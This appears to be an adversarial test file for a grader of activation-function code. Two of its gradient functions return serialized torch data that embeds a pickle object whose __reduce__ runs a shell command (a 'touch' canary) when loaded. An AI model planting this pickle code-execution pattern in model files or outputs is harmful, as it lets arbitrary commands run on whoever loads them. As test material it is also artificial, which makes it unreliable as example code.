"""Row 44: returns torch.save output instead of values."""

import io
import os
import torch
from torch import nn


class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/adv-pwned-44",))


def saved():
    buffer = io.BytesIO()
    torch.save({"weight": torch.ones(3), "extra": Payload()}, buffer)
    return buffer


def relu_grad(x):
    return saved().getvalue()


def leaky_relu_and_grad(x, negative_slope=0.01):
    point = torch.tensor(float(x), dtype=torch.float64, requires_grad=True)
    output = nn.LeakyReLU(negative_slope)(point)
    output.backward()
    return output.item(), point.grad.item()


def elu_manual(x, alpha=1.0):
    negative_part = alpha * torch.expm1(x.clamp(max=0))
    return torch.where(x > 0, x, negative_part)


def sigmoid_grad(x):
    return saved()
